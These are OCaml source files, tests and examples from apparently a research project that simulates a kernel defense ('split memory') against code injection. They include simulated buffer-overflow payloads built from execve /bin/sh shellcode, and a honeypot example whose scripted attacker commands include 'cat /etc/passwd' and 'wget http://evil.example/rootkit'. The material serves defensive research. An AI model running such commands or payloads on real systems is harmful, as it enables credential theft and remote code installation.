  let check_class outcome want =
    let got = Option.map Kernel.Trap.class_name (Kernel.Trap.of_outcome outcome) in
    Alcotest.(check (option string)) "class" want got
  in
  check_class (Ok Hw.Cpu.Retired) None;
  check_class (Ok (Hw.Cpu.Syscall 4)) (Some "syscall");
  check_class (Error (Hw.Cpu.Page some_fault)) (Some "page_fault");
  check_class
    (Error (Hw.Cpu.Invalid_opcode { eip = 0; opcode = 0xCD }))
    (Some "invalid_opcode");
  check_class (Error (Hw.Cpu.General_protection "hlt")) (Some "general_protection")

(* The #DB must be delivered after the primary trap of the same step, and
   only if that trap left the process runnable. *)
let test_debug_trap_ordering () =
  let calls = ref [] in
  let protection =
    {
      Kernel.Protection.none with
      on_invalid_opcode =
        (fun _ _ ~eip:_ ~opcode:_ ->
          calls := "ud" :: !calls;
          Kernel.Protection.Resume);
      on_debug_trap =
        (fun _ _ ->
          calls := "db" :: !calls;
          true);
    }
  in
  let m = Kernel.Machine.create ~protection () in
  let p = mk_proc m in
  let step : Hw.Cpu.step =
    { outcome = Error (Hw.Cpu.Invalid_opcode { eip = 0x1000; opcode = 0x0F });
      debug_trap = true }
  in
  Kernel.Trap.deliver m p step;
  Alcotest.(check (list string)) "primary trap before #DB" [ "ud"; "db" ] (List.rev !calls)

let test_debug_trap_skipped_when_killed () =
  let db_calls = ref 0 in
  let protection =
    {
      Kernel.Protection.none with
      on_debug_trap =
        (fun _ _ ->
          incr db_calls;
          true);
    }
  in
  let m = Kernel.Machine.create ~protection () in
  let p = mk_proc m in
  (* a #GP kills the process; the piggybacked #DB must then be dropped *)
  let step : Hw.Cpu.step =
    { outcome = Error (Hw.Cpu.General_protection "hlt in user mode"); debug_trap = true }
  in
  Kernel.Trap.deliver m p step;
  Alcotest.(check bool) "killed" false (Kernel.Proc.is_runnable p);
  Alcotest.(check int) "#DB dropped" 0 !db_calls

let test_invalid_opcode_verdicts () =
  let run verdict =
    let protection =
      { Kernel.Protection.none with on_invalid_opcode = (fun _ _ ~eip:_ ~opcode:_ -> verdict) }
    in
    let m = Kernel.Machine.create ~protection () in
    let p = mk_proc m in
    Kernel.Trap.serve m p (Kernel.Trap.Invalid_opcode { eip = 0x1000; opcode = 0xFF });
    Kernel.Proc.is_runnable p
  in
  Alcotest.(check bool) "Resume keeps running" true (run Kernel.Protection.Resume);
  Alcotest.(check bool) "Benign kills (SIGILL)" false (run Kernel.Protection.Benign);
  Alcotest.(check bool) "Kill_process kills" false (run (Kernel.Protection.Kill_process "x"))

(* Satellite: every layer prints faults through the one MMU formatter. *)
let test_unified_fault_format () =
  let mmu_s = Fmt.str "%a" Hw.Mmu.pp_fault some_fault in
  Alcotest.(check string) "canonical shape"
    "#PF addr=0x08048123 access=write kind=protection mode=user" mmu_s;
  Alcotest.(check string) "Cpu.pp_fault delegates" mmu_s
    (Fmt.str "%a" Hw.Cpu.pp_fault (Hw.Cpu.Page some_fault));
  Alcotest.(check string) "Trap.pp delegates" mmu_s
    (Fmt.str "%a" Kernel.Trap.pp (Kernel.Trap.Page_fault some_fault));
  Alcotest.(check string) "#UD shape" "#UD eip=0x00001000 opcode=0xcd"
    (Fmt.str "%a" Kernel.Trap.pp (Kernel.Trap.Invalid_opcode { eip = 0x1000; opcode = 0xCD }))

let unit_tests =
  [
    Alcotest.test_case "syscall table: registration" `Quick test_table_registration;
    Alcotest.test_case "syscall table: unknown number" `Quick test_table_unknown;
    Alcotest.test_case "syscall table: default entries" `Quick test_table_default;
    Alcotest.test_case "syscall table: Efault maps to -EFAULT" `Quick test_table_efault;
    Alcotest.test_case "syscall table: tracer" `Quick test_table_tracer;
    Alcotest.test_case "trap pipeline: classification" `Quick test_classify;
    Alcotest.test_case "trap pipeline: #DB after primary" `Quick test_debug_trap_ordering;
    Alcotest.test_case "trap pipeline: #DB dropped on kill" `Quick
      test_debug_trap_skipped_when_killed;
    Alcotest.test_case "trap pipeline: #UD verdicts" `Quick test_invalid_opcode_verdicts;
    Alcotest.test_case "unified fault formatter" `Quick test_unified_fault_format;
  ]

let suite = scenario_tests @ unit_tests
