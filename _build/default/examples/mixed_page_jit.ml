(* Mixed code+data pages: the case the execute-disable bit cannot handle
   (paper §2, Fig. 1b — Sun's JavaVM, Linux signal trampolines, loadable
   modules). A JIT-style victim keeps a dispatch function and a writable
   buffer on the same page; the page must stay executable, so NX waves the
   injected code straight through. Split memory protects it by keeping the
   page's code and data in different physical frames.

   Run with: dune exec examples/mixed_page_jit.exe *)

let () =
  Fmt.pr "victim: a JIT-like server with code and data sharing one page@.@.";
  let show defense =
    let outcome = Attack.Bypass.run_mixed_page ~defense () in
    Fmt.pr "  %-24s -> %s@." (Defense.name defense) (Attack.Runner.outcome_name outcome)
  in
  Fmt.pr "attack on the mixed page:@.";
  show Defense.unprotected;
  show Defense.nx;
  show Defense.split_mixed_plus_nx;
  show Defense.split_standalone;
  Fmt.pr
    "@.nx cannot mark the mixed page non-executable, so the attack succeeds;@.\
     split memory separates the page into code/data copies and foils it,@.\
     even in the cheap mixed-only deployment (paper SS4.2.1).@.@.";

  Fmt.pr "benign JIT traffic on the same page still works under every defense:@.";
  List.iter
    (fun defense ->
      let image = Attack.Bypass.jit_victim () in
      let s = Attack.Runner.start ~defense image in
      Attack.Runner.send s "benign input\n";
      ignore (Attack.Runner.step s);
      Fmt.pr "  %-24s -> %s@." (Defense.name defense)
        (Attack.Runner.outcome_name (Attack.Runner.outcome s)))
    [ Defense.unprotected; Defense.nx; Defense.split_mixed_plus_nx; Defense.split_standalone ]
