(* Honeypot: run the WU-FTPD victim under observe mode with Sebek-style
   logging (paper §4.5.2, Fig. 5b/5d). The attack is detected at the moment
   the first injected instruction is fetched; instead of killing the
   process, the kernel locks the page to its data copy, lets the attack
   proceed, and traces every syscall the compromised process makes — the
   attacker's "keystrokes" into the shell they spawned.

   Run with: dune exec examples/honeypot_observe.exe *)

let () =
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = true }) ()
  in
  let commands = [ "id"; "cat /etc/passwd"; "wget http://evil.example/rootkit"; "q" ] in
  let outcome, session = Attack.Realworld.run_wuftpd ~defense ~commands () in
  Fmt.pr "attack outcome: %s@.@." (Attack.Runner.outcome_name outcome);
  Fmt.pr "What the honeypot recorded:@.";
  List.iter
    (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
    (Kernel.Event_log.to_list (Kernel.Os.log session.k));
  Fmt.pr
    "@.Note the order: the detection fires BEFORE the first injected@.\
     instruction runs, so nothing the attacker does escapes the trace.@."
