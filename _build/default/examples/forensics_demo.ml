(* Forensics: the response mode of paper §4.5.3 / §6.1.3. The kernel
   detects the injection right before the first injected instruction
   executes, dumps the shellcode bytes found at EIP on the data copy, and
   optionally substitutes its own "forensic shellcode" (here the paper's
   demo payload, exit(0)) so the process terminates gracefully instead of
   segfaulting.

   Run with: dune exec examples/forensics_demo.exe *)

let dump_events k =
  List.iter
    (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
    (Kernel.Event_log.to_list (Kernel.Os.log k))

let () =
  Fmt.pr "=== forensics: dump and terminate ===@.";
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Forensics { payload = None }) ()
  in
  let outcome, s = Attack.Realworld.run_wuftpd ~defense () in
  Fmt.pr "outcome: %s@." (Attack.Runner.outcome_name outcome);
  dump_events s.k;
  (match
     Kernel.Event_log.find_first (Kernel.Os.log s.k) (function
       | Kernel.Event_log.Shellcode_dump _ -> true
       | _ -> false)
   with
  | Some (Kernel.Event_log.Shellcode_dump { bytes; eip; _ }) ->
    Fmt.pr "@.disassembly of the captured shellcode:@.%s@."
      (Isa.Disasm.to_string ~base:eip bytes ~pos:0 ~len:(String.length bytes))
  | Some _ | None -> ());

  Fmt.pr "@.=== forensics: inject exit(0) shellcode (paper's demo) ===@.";
  let defense =
    Defense.split_with
      ~response:(Split_memory.Response.Forensics { payload = Some Attack.Shellcode.exit0 })
      ()
  in
  let outcome, s = Attack.Realworld.run_wuftpd ~defense () in
  Fmt.pr "outcome: %s (no segfault: the forensic payload ran instead)@."
    (Attack.Runner.outcome_name outcome);
  dump_events s.k
