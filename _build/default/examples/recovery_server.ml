(* Recovery mode (paper §4.5, proposed as future work): a server registers
   an attack-recovery callback with the kernel at startup; when split
   memory detects injected code about to run, the kernel transfers
   execution to the callback instead of crashing the process — the
   application gets a chance to report and shut down gracefully.

   Run with: dune exec examples/recovery_server.exe *)

open Isa.Asm

let resilient_server () =
  Kernel.Image.build ~name:"resilient-server"
    ~data:(fun ~lbl:_ ->
      [ L "buf"; Space 64; L "banner"; Bytes "ready\n"; L "msg"; Bytes "attack survived; state saved; bye\n" ])
    ~code:(fun ~lbl ->
      [
        L "main";
        (* sigrecover(on_attack) *)
        I (Mov_ri (EAX, 48));
        I (Mov_ri (EBX, lbl "on_attack"));
        I (Int 0x80);
      ]
      @ Guest.sys_write_imm ~buf:(lbl "banner") ~len:6 ()
      @ Guest.sys_read_imm ~buf:(lbl "buf") ~len:64
      (* the bug: jump into attacker-controlled bytes *)
      @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ]
      @ [
          L "on_attack";
          (* eax = the EIP the attack tried to execute; rebuild a stack,
             checkpoint/report, exit gracefully *)
          I (Mov_ri (ESP, Kernel.Layout.initial_esp));
        ]
      @ Guest.sys_write_imm ~buf:(lbl "msg") ~len:34 ()
      @ Guest.sys_exit 0)
    ~entry:"main" ()

let () =
  let image = resilient_server () in
  let attack defense =
    let s = Attack.Runner.start ~defense image in
    ignore (Attack.Runner.step s);
    let buf = Kernel.Image.label image "buf" in
    Attack.Runner.send s (Attack.Shellcode.execve_bin_sh ~sled:8 ~base:buf ());
    ignore (Attack.Runner.step s);
    Fmt.pr "under %-30s -> %s@." (Defense.name defense)
      (Attack.Runner.outcome_name (Attack.Runner.outcome s));
    Fmt.pr "  server output: %S@." (Kernel.Os.read_stdout s.k s.victim);
    List.iter
      (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
      (Kernel.Event_log.to_list (Kernel.Os.log s.k));
    Fmt.pr "@."
  in
  Fmt.pr "same exploit, three responses:@.@.";
  attack Defense.unprotected;
  attack Defense.split_standalone;
  attack (Defense.split_with ~response:Split_memory.Response.Recovery ())
