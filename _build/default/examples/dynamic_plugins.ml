(* Dynamic library loading with signature validation (paper §4.3): the
   kernel's plugin registry holds signed, prelinked libraries; a guest
   loads one with the uselib syscall. A valid plugin maps (and its pages
   get split like everything else); a tampered plugin is rejected before a
   single byte reaches the address space.

   Run with: dune exec examples/dynamic_plugins.exe *)

open Isa.Asm

let stats_plugin =
  [
    L "entry";
    I (Call (Lbl "next"));
    L "next";
    I (Pop ESI);
    I (Lea (ECX, ESI, 30));
    I (Mov_ri (EAX, 4));
    I (Mov_ri (EBX, 1));
    I (Mov_ri (EDX, 6));
    I (Int 0x80);
    I Ret;
    L "msg";
    Bytes "stats\n";
  ]

let host () =
  Kernel.Image.build ~name:"app"
    ~data:(fun ~lbl:_ -> [ L "name"; Bytes "stats\000"; Space 16 ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EAX, 137));
        I (Mov_ri (EBX, lbl "name"));
        I (Int 0x80);
        I (Cmp_ri (EAX, 0));
        I (Jl (Lbl "refused"));
        I (Call_r EAX);
      ]
      @ Guest.sys_exit 0
      @ (L "refused" :: Guest.sys_exit 44))
    ~entry:"main" ()

let run ~tamper =
  let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
  let base = Kernel.Os.register_library k "stats" stats_plugin in
  if tamper then Kernel.Os.tamper_library k "stats";
  let p = Kernel.Os.spawn k (host ()) in
  ignore (Kernel.Os.run k);
  Fmt.pr "plugin prelinked at 0x%08x, %s@." base
    (if tamper then "then trojaned on disk" else "signature intact");
  Fmt.pr "  app stdout: %S@." (Kernel.Os.read_stdout k p);
  Fmt.pr "  app status: %s@."
    (match p.state with
    | Kernel.Proc.Zombie s -> Kernel.Proc.status_string s
    | _ -> "running");
  List.iter
    (fun e -> Fmt.pr "  %a@." Kernel.Event_log.pp_event e)
    (Kernel.Event_log.to_list (Kernel.Os.log k));
  Fmt.pr "@."

let () =
  Fmt.pr "=== loading a valid signed plugin ===@.";
  run ~tamper:false;
  Fmt.pr "=== loading a tampered plugin ===@.";
  run ~tamper:true
