examples/recovery_server.mli:
