examples/honeypot_observe.mli:
