examples/mixed_page_jit.ml: Attack Defense Fmt List
