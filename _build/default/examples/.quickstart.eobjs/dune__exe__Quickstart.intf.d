examples/quickstart.mli:
