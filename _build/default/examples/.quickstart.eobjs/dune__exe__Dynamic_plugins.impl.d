examples/dynamic_plugins.ml: Fmt Guest Isa Kernel List Split_memory
