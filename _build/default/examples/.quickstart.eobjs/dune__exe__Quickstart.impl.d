examples/quickstart.ml: Attack Defense Fmt Guest Isa Kernel Split_memory
