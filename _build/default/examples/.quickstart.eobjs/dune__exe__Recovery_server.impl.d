examples/recovery_server.ml: Attack Defense Fmt Guest Isa Kernel List Split_memory
