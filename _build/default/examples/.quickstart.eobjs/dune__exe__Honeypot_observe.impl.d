examples/honeypot_observe.ml: Attack Defense Fmt Kernel List Split_memory
