examples/forensics_demo.ml: Attack Defense Fmt Isa Kernel List Split_memory String
