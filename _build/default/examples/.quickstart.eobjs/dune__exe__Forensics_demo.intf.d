examples/forensics_demo.mli:
