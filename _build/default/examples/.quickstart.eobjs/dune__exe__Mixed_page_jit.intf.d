examples/mixed_page_jit.mli:
