examples/dynamic_plugins.mli:
