(* Quickstart: build a tiny guest program, run it on the stock kernel and
   under split memory, then launch a canned code-injection attack against a
   vulnerable server and watch split memory stop it.

   Run with: dune exec examples/quickstart.exe *)

open Isa.Asm

let () =
  (* 1. A guest program: write a greeting, exit. Guest programs are
     assembled from a typed instruction list into a signed image. *)
  let image =
    Kernel.Image.build ~name:"greeter"
      ~data:(fun ~lbl:_ -> [ L "msg"; Bytes "hello from the guest!\n" ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_write_imm ~buf:(lbl "msg") ~len:22 ()) @ Guest.sys_exit 0)
      ~entry:"main" ()
  in

  (* 2. Run it on the stock (unprotected) kernel. *)
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let p = Kernel.Os.spawn k image in
  ignore (Kernel.Os.run k);
  Fmt.pr "stock kernel stdout: %s" (Kernel.Os.read_stdout k p);

  (* 3. Same program under the split-memory patch: identical behaviour,
     but every page is backed by separate code/data copies. *)
  let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
  let p = Kernel.Os.spawn k image in
  ignore (Kernel.Os.run k);
  Fmt.pr "split memory stdout:  %s" (Kernel.Os.read_stdout k p);
  let cost = Kernel.Os.cost k in
  Fmt.pr "split faults serviced: %d, single-step ITLB loads: %d@." cost.split_faults
    cost.single_steps;

  (* 4. Attack a vulnerable server. Unprotected: the injected shellcode
     spawns a shell. Split memory: the fetch lands on the pristine code
     copy and the attack is detected at the exact moment of execution. *)
  let show defense =
    let outcome = Attack.Realworld.run ~defense Attack.Realworld.Bind in
    Fmt.pr "bind exploit under %-14s -> %s@." (Defense.name defense)
      (Attack.Runner.outcome_name outcome)
  in
  show Defense.unprotected;
  show Defense.split_standalone
