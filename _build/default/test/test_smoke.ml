(* End-to-end smoke tests: a guest program runs identically under the stock
   kernel and under split memory. *)

open Isa.Asm

let hello_image () =
  Kernel.Image.build ~name:"hello"
    ~data:(fun ~lbl:_ -> [ L "msg"; Bytes "hello, split world\n" ])
    ~code:(fun ~lbl ->
      [
        L "main";
        I (Mov_ri (EAX, 4));
        I (Mov_ri (EBX, 1));
        I (Mov_ri (ECX, lbl "msg"));
        I (Mov_ri (EDX, 19));
        I (Int 0x80);
        I (Mov_ri (EAX, 1));
        I (Mov_ri (EBX, 7));
        I (Int 0x80);
      ])
    ~entry:"main" ()

let run_hello protection =
  let k = Kernel.Os.create ~protection () in
  let p = Kernel.Os.spawn k (hello_image ()) in
  let reason = Kernel.Os.run k in
  (k, p, reason)

let check_hello (k, p, reason) =
  (match reason with
  | Kernel.Os.All_exited -> ()
  | r ->
    Alcotest.failf "expected All_exited, got %s"
      (match r with
      | Kernel.Os.All_blocked -> "All_blocked"
      | Kernel.Os.Fuel_exhausted -> "Fuel_exhausted"
      | Kernel.Os.All_exited -> "All_exited"));
  Alcotest.(check string) "stdout" "hello, split world\n" (Kernel.Os.read_stdout k p);
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 7) -> ()
  | s -> Alcotest.failf "unexpected state %a" Kernel.Proc.pp_state s

let test_unprotected () = check_hello (run_hello Kernel.Protection.none)

let test_split_break () =
  let prot = Split_memory.protection () in
  let (k, _, _) as result = run_hello prot in
  check_hello result;
  Alcotest.(check bool)
    "split faults occurred" true
    ((Kernel.Os.cost k).split_faults > 0)

let test_split_slower () =
  let k0, _, _ = run_hello Kernel.Protection.none in
  let k1, _, _ = run_hello (Split_memory.protection ()) in
  Alcotest.(check bool) "split memory costs more cycles" true
    ((Kernel.Os.cost k1).cycles > (Kernel.Os.cost k0).cycles)

let suite =
  [
    Alcotest.test_case "hello under stock kernel" `Quick test_unprotected;
    Alcotest.test_case "hello under split memory" `Quick test_split_break;
    Alcotest.test_case "split memory is slower" `Quick test_split_slower;
  ]

(* Process isolation: an attack on one server never perturbs an unrelated
   process scheduled on the same kernel. *)
let test_attack_isolation () =
  let k = Kernel.Os.create ~protection:(Split_memory.protection ()) () in
  let victim = Kernel.Os.spawn k (Attack.Realworld.victim Attack.Realworld.Bind) in
  let bystander = Kernel.Os.spawn k (hello_image ()) in
  (* drive the bind exploit by hand against the shared kernel *)
  ignore (Kernel.Os.run k);
  ignore (Kernel.Os.feed_stdin k victim "query: x\n");
  ignore (Kernel.Os.run k);
  let leak = Kernel.Os.read_stdout k victim in
  let buf = Attack.Runner.leak_addr leak in
  let code = Attack.Shellcode.execve_bin_sh ~sled:16 ~base:buf () in
  let payload =
    code
    ^ String.make (128 - String.length code) 'A'
    ^ Attack.Shellcode.word32 buf ^ Attack.Shellcode.word32 buf
  in
  ignore (Kernel.Os.feed_stdin k victim (payload ^ "\n"));
  ignore (Kernel.Os.run k);
  (* victim foiled, bystander untouched *)
  (match victim.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Killed Kernel.Proc.Sigill) -> ()
  | s -> Alcotest.failf "victim: %a" Kernel.Proc.pp_state s);
  Alcotest.(check string) "bystander output intact" "hello, split world\n"
    (Kernel.Os.read_stdout k bystander);
  match bystander.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited 7) -> ()
  | s -> Alcotest.failf "bystander: %a" Kernel.Proc.pp_state s

let suite =
  suite
  @ [ Alcotest.test_case "attack isolation across processes" `Quick test_attack_isolation ]
