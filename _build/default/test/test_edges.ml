(* Syscall and API edge cases, plus subtler split-memory behaviours. *)

open Isa.Asm

let run_code ?(protection = Kernel.Protection.none) code =
  let image = Kernel.Image.build ~name:"edge" ~code ~entry:"main" () in
  let k = Kernel.Os.create ~protection () in
  let p = Kernel.Os.spawn k image in
  let reason = Kernel.Os.run k in
  (k, p, reason)

let exit_code (p : Kernel.Proc.t) =
  match p.state with
  | Kernel.Proc.Zombie (Kernel.Proc.Exited n) -> n
  | s -> Alcotest.failf "not exited: %a" Kernel.Proc.pp_state s

(* read/write on bad or wrong-direction fds return -EBADF and execution
   continues *)
let test_bad_fd () =
  let _, p, _ =
    run_code (fun ~lbl:_ ->
        [
          L "main";
          (* read(7, ...) -> -9 *)
          I (Mov_ri (EAX, 3));
          I (Mov_ri (EBX, 7));
          I (Mov_ri (ECX, Kernel.Layout.heap_base));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
          I (Cmp_ri (EAX, -9));
          I (Jnz (Lbl "bad"));
          (* write(0, ...) -> -9 : fd 0 is a read end *)
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 0));
          I (Mov_ri (ECX, Kernel.Layout.heap_base));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
          I (Cmp_ri (EAX, -9));
          I (Jnz (Lbl "bad"));
        ]
        @ Guest.sys_exit 0
        @ (L "bad" :: Guest.sys_exit 1))
  in
  Alcotest.(check int) "both EBADF" 0 (exit_code p)

let test_close_twice_and_waitpid_no_children () =
  let _, p, _ =
    run_code (fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EAX, 6));
          I (Mov_ri (EBX, 1));
          I (Int 0x80);
          (* close(1) ok *)
          I (Cmp_ri (EAX, 0));
          I (Jnz (Lbl "bad"));
          I (Mov_ri (EAX, 6));
          I (Mov_ri (EBX, 1));
          I (Int 0x80);
          (* second close -> -9 *)
          I (Cmp_ri (EAX, -9));
          I (Jnz (Lbl "bad"));
          I (Mov_ri (EAX, 7));
          I (Mov_ri (EBX, 0));
          I (Int 0x80);
          (* waitpid with no children -> -10 *)
          I (Cmp_ri (EAX, -10));
          I (Jnz (Lbl "bad"));
        ]
        @ Guest.sys_exit 0
        @ (L "bad" :: Guest.sys_exit 1))
  in
  Alcotest.(check int) "edge returns" 0 (exit_code p)

let test_brk_out_of_range () =
  let _, p, _ =
    run_code (fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EAX, 45));
          I (Mov_ri (EBX, 0x100));
          (* below heap_base *)
          I (Int 0x80);
          I (Cmp_ri (EAX, -12));
          I (Jnz (Lbl "bad"));
        ]
        @ Guest.sys_exit 0
        @ (L "bad" :: Guest.sys_exit 1))
  in
  Alcotest.(check int) "brk ENOMEM" 0 (exit_code p)

let test_efault_syscall () =
  (* write() from an unmapped address fails with -EFAULT, process lives *)
  let _, p, _ =
    run_code (fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EAX, 4));
          I (Mov_ri (EBX, 1));
          I (Mov_ri (ECX, 0x30000000));
          I (Mov_ri (EDX, 4));
          I (Int 0x80);
          I (Cmp_ri (EAX, -14));
          I (Jnz (Lbl "bad"));
        ]
        @ Guest.sys_exit 0
        @ (L "bad" :: Guest.sys_exit 1))
  in
  Alcotest.(check int) "EFAULT" 0 (exit_code p)

(* Observe mode with shellcode spanning two pages: each page is detected
   and locked independently — the paper's "only the first execution on a
   given page is logged" per-page semantics. *)
let test_observe_two_pages () =
  let image =
    Kernel.Image.build ~name:"twopage"
      ~data:(fun ~lbl:_ -> [ L "pad"; Space 4000; L "buf"; Space 4096 ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:512)
        @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ])
      ~entry:"main" ()
  in
  let buf = Kernel.Image.label image "buf" in
  let page_end = ((buf / 4096) + 1) * 4096 in
  let sled = page_end - buf in
  (* nop sled across the boundary, execve on the second page *)
  let payload =
    String.make sled '\x90' ^ Attack.Shellcode.execve_bin_sh ~sled:4 ~base:page_end ()
  in
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Observe { sebek = false }) ()
  in
  let s = Attack.Runner.start ~defense image in
  ignore (Attack.Runner.step s);
  Attack.Runner.send s payload;
  ignore (Attack.Runner.step s);
  Alcotest.(check bool) "shell spawned" true
    (Kernel.Event_log.shell_spawned (Kernel.Os.log s.k));
  Alcotest.(check int) "two detections: one per page" 2 s.victim.detections

let test_forensics_trail_event () =
  let image =
    Kernel.Image.build ~name:"trail"
      ~data:(fun ~lbl:_ -> [ L "buf"; Space 64 ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_read_imm ~buf:(lbl "buf") ~len:64)
        @ [ I (Mov_ri (ESI, lbl "buf")); I (Jmp_r ESI) ])
      ~entry:"main" ()
  in
  let defense =
    Defense.split_with ~response:(Split_memory.Response.Forensics { payload = None }) ()
  in
  let s = Attack.Runner.start ~defense image in
  ignore (Attack.Runner.step s);
  Attack.Runner.send s "\x90\x90\x90\x90";
  ignore (Attack.Runner.step s);
  match
    Kernel.Event_log.find_first (Kernel.Os.log s.k) (function
      | Kernel.Event_log.Execution_trail _ -> true
      | _ -> false)
  with
  | Some (Kernel.Event_log.Execution_trail { eips; _ }) ->
    Alcotest.(check bool) "trail nonempty" true (eips <> []);
    (* the last recorded instruction is the hijacked jump *)
    let last = List.nth eips (List.length eips - 1) in
    Alcotest.(check bool) "trail ends in victim code" true
      (last >= Kernel.Layout.code_base && last < Kernel.Layout.code_base + 4096)
  | _ -> Alcotest.fail "no trail event"

let test_mmap_exhaustion () =
  (* mmap until the window is exhausted: must return -ENOMEM, not wrap *)
  let _, p, _ =
    run_code (fun ~lbl:_ ->
        [
          L "main";
          I (Mov_ri (EDI, 0));
          L "loop";
          I (Mov_ri (EAX, 90));
          I (Mov_ri (EBX, 0x1000000));
          (* 16MB each *)
          I (Mov_ri (ECX, 3));
          I (Int 0x80);
          I (Cmp_ri (EAX, -12));
          I (Jz (Lbl "done"));
          I (Add_ri (EDI, 1));
          I (Cmp_ri (EDI, 64));
          I (Jl (Lbl "loop"));
          (* never saw ENOMEM: fail *)
          I (Mov_ri (EBX, 1));
          I (Mov_ri (EAX, 1));
          I (Int 0x80);
          L "done";
        ]
        @ Guest.sys_exit 0)
  in
  Alcotest.(check int) "ENOMEM eventually" 0 (exit_code p)

let test_image_unknown_label () =
  match
    Kernel.Image.build ~name:"bad"
      ~code:(fun ~lbl -> [ L "main"; I (Mov_ri (EAX, lbl "missing")) ])
      ~entry:"main" ()
  with
  | exception Kernel.Image.Unknown_label "missing" -> ()
  | _ -> Alcotest.fail "expected Unknown_label"

let test_image_duplicate_cross_segment () =
  match
    Kernel.Image.build ~name:"dup"
      ~data:(fun ~lbl:_ -> [ L "x"; Word32 0 ])
      ~code:(fun ~lbl:_ -> [ L "main"; L "x"; I Ret ])
      ~entry:"main" ()
  with
  | exception Isa.Asm.Duplicate_label "x" -> ()
  | _ -> Alcotest.fail "expected Duplicate_label"

let suite =
  [
    Alcotest.test_case "read/write on bad fds" `Quick test_bad_fd;
    Alcotest.test_case "double close, waitpid w/o children" `Quick
      test_close_twice_and_waitpid_no_children;
    Alcotest.test_case "brk out of range" `Quick test_brk_out_of_range;
    Alcotest.test_case "syscall EFAULT" `Quick test_efault_syscall;
    Alcotest.test_case "observe: per-page detection (2 pages)" `Quick test_observe_two_pages;
    Alcotest.test_case "forensics execution trail" `Quick test_forensics_trail_event;
    Alcotest.test_case "mmap window exhaustion" `Quick test_mmap_exhaustion;
    Alcotest.test_case "image: unknown label" `Quick test_image_unknown_label;
    Alcotest.test_case "image: cross-segment duplicate label" `Quick
      test_image_duplicate_cross_segment;
  ]

let test_deadlock_detected () =
  (* two processes each blocked reading the other's silence: All_blocked *)
  let reader () =
    Kernel.Image.build ~name:"mute"
      ~data:(fun ~lbl:_ -> [ L "b"; Space 8 ])
      ~code:(fun ~lbl ->
        (L "main" :: Guest.sys_read_imm ~buf:(lbl "b") ~len:4) @ Guest.sys_exit 0)
      ~entry:"main" ()
  in
  let k = Kernel.Os.create ~protection:Kernel.Protection.none () in
  let a = Kernel.Os.spawn k (reader ()) in
  let b = Kernel.Os.spawn k (reader ()) in
  Kernel.Os.connect k a b;
  Alcotest.(check bool) "deadlock reported" true (Kernel.Os.run k = Kernel.Os.All_blocked)

let suite =
  suite @ [ Alcotest.test_case "cross-read deadlock detected" `Quick test_deadlock_detected ]
