(* The attack grid: every combination succeeds on the unprotected kernel and
   is foiled under split memory. *)

let check_combo technique location =
  let name =
    Fmt.str "%s / %s"
      (Attack.Wilander.technique_name technique)
      (Attack.Wilander.location_name location)
  in
  let unprot = Attack.Wilander.run ~defense:Defense.unprotected technique location in
  Alcotest.(check bool)
    (name ^ ": succeeds unprotected")
    true
    (Attack.Runner.is_attack_success unprot);
  let split = Attack.Wilander.run ~defense:Defense.split_standalone technique location in
  Alcotest.(check bool) (name ^ ": foiled under split") true (Attack.Runner.is_foiled split)

let test_grid () =
  List.iter
    (fun t -> List.iter (fun l -> check_combo t l) Attack.Wilander.locations)
    Attack.Wilander.techniques

let test_benign () =
  List.iter
    (fun t ->
      List.iter
        (fun defense ->
          let outcome, out = Attack.Wilander.benign_run ~defense t in
          Alcotest.(check bool)
            (Attack.Wilander.technique_name t ^ " benign completes")
            true
            (outcome = Attack.Runner.Completed 0);
          Alcotest.(check bool) "prints DONE" true (String.length out >= 4))
        [ Defense.unprotected; Defense.split_standalone; Defense.nx ])
    Attack.Wilander.techniques

let test_nx_blocks_grid () =
  (* The execute-disable bit also stops these non-mixed-page attacks. *)
  List.iter
    (fun t ->
      let o = Attack.Wilander.run ~defense:Defense.nx t Attack.Wilander.Stack in
      Alcotest.(check bool)
        (Attack.Wilander.technique_name t ^ " blocked by nx")
        false
        (Attack.Runner.is_attack_success o))
    Attack.Wilander.techniques

let suite =
  [
    Alcotest.test_case "6x4 grid: unprotected succeeds, split foils" `Quick test_grid;
    Alcotest.test_case "benign runs complete under all defenses" `Quick test_benign;
    Alcotest.test_case "nx blocks stack-injection grid" `Quick test_nx_blocks_grid;
  ]

let test_grid_under_all_mechanisms () =
  (* the full grid must be foiled by every implementation mechanism *)
  List.iter
    (fun defense ->
      List.iter
        (fun t ->
          List.iter
            (fun l ->
              let o = Attack.Wilander.run ~defense t l in
              Alcotest.(check bool)
                (Fmt.str "%s / %s under %s"
                   (Attack.Wilander.technique_name t)
                   (Attack.Wilander.location_name l)
                   (Defense.name defense))
                true (Attack.Runner.is_foiled o))
            Attack.Wilander.locations)
        Attack.Wilander.techniques)
    [ Defense.split_soft_tlb; Defense.split_dual_cr3 ]

let suite =
  suite
  @ [
      Alcotest.test_case "full grid x soft-tlb and dual-cr3" `Slow
        test_grid_under_all_mechanisms;
    ]
