(* The §7 limitations must reproduce exactly: split memory is a code-
   injection defense, not a panacea. *)

module L = Attack.Limitations
module R = Attack.Runner

